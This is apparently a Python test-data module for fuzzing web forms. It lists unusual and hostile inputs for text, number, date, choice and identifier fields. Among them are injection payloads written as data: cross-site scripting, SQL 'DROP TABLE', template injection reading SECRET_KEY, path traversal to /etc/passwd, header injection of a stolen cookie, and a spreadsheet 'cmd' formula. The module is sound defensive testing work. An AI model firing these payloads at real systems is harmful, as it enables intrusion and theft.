"""What people, machines and attackers put where a text, a number, a day or an identity is asked for."""

from collections.abc import Iterator

MARK = "顽皮"
MEGABYTE = "长" * 350_000  # one MB of UTF-8

LONG = 5_000  # signs, more than most fields take

# Into every control that takes text. Bytes go over the wire as they are: half a surrogate pair cannot be written else.
TEXTS: dict[str, str | bytes] = {
    "unseen": f"\0{MARK}\x1b\x7f\x85\u202e\u2066\u200b\u200d\ufeff\u00ad\U000e0041\U0001ffff尾",
    "only unseen": "\u200b\u202e\0\u2060",
    "lone surrogates": MARK.encode() + b"\xed\xa0\x80\xed\xbf\xbf",
    "broken utf-8": MARK.encode() + b"\xff\xfe\xc3\x28",
    "full width": f"{MARK}ＡＢ１２３－＠！",
    "combining, right to left, astral": f"{MARK}Z̷̢̛͔͇ שלום 𠮷 👩‍👩‍👧 葛󠄀",
    "formula": f'=HYPERLINK("//x?"&A1,"{MARK}")',
    "full-width formula": f"＝cmd|' /C calc'!A0{MARK}",
    "script": f'{MARK}"><script>alert(1)</script><img src=x onerror=alert(1)>',
    "attribute": f"{MARK}' onmouseover='alert(1)' \" autofocus onfocus=\"alert(1)",
    "sql": f"{MARK}'; DROP TABLE x; -- \\' OR 1=1 /* %_",
    "template": MARK + "{{ settings.SECRET_KEY }}{% debug %}%(name)s{0.__class__}${7*7}",
    "path": f"../../../etc/passwd/{MARK}/..\\..\\win.ini",
    "header": f"{MARK}\r\nSet-Cookie: sessionid=stolen\r\n\r\n<html>\u2028三\x0c四",
    "spaces": f"\u3000\u00a0\t{MARK}\u3000 \u00a0尾\t",
}
# Into every control that takes a number, a day or a moment; also where a page or an identity is asked for.
NUMBERS = (str(10**30), "-1", str(2**63), "9" * 5000, "NaN", "Infinity", "1e400", "0x10", "१२", "²", "1_000", "")
DAYS = ("0000-00-00", "9999-12-31", "10000-01-01", "0001-01-01", "2026-02-30", "NaN", "2026-W01", str(10**30), "")
CHOICES = ("nosuch", str(10**30), "-1", "' OR '1'='1", "a\0b", "../..", "NaN", "None", "[]", "9" * 5000)
UUIDS = ("nosuch", "g" * 32, "0" * 400, "{00000000-0000-0000-0000-00000000000", "a\0b", "")
# Of these, what can be nothing else than wrong.
WRONG_NUMBERS = ("NaN", "Infinity", str(10**30), "x")
WRONG_DAYS = ("0000-00-00", "10000-01-01", "2026-02-30", "x")
WRONG_CHOICES = ("nosuch", str(10**30))

# Into parameters of an address and into headers: everything above that is short.
ADDRESS_PARTS: tuple[str | bytes, ...] = tuple(
    dict.fromkeys([*TEXTS.values(), *NUMBERS, *DAYS, *CHOICES, "..", "a" * 3000])
)


def arrived(value: str | bytes) -> str:
    """What the web makes of it before anybody looks at it."""
    return value.decode("utf-8", "replace") if isinstance(value, bytes) else value


def wrong_values(kind: str) -> Iterator[str]:
    """Values for a control of this kind that no form may accept."""
    if kind == "number":
        yield from WRONG_NUMBERS
    elif kind in ("date", "datetime-local"):
        yield from (f"{day}T10:00" if kind == "datetime-local" else day for day in WRONG_DAYS)
    elif kind in ("select", "radio"):
        yield from WRONG_CHOICES
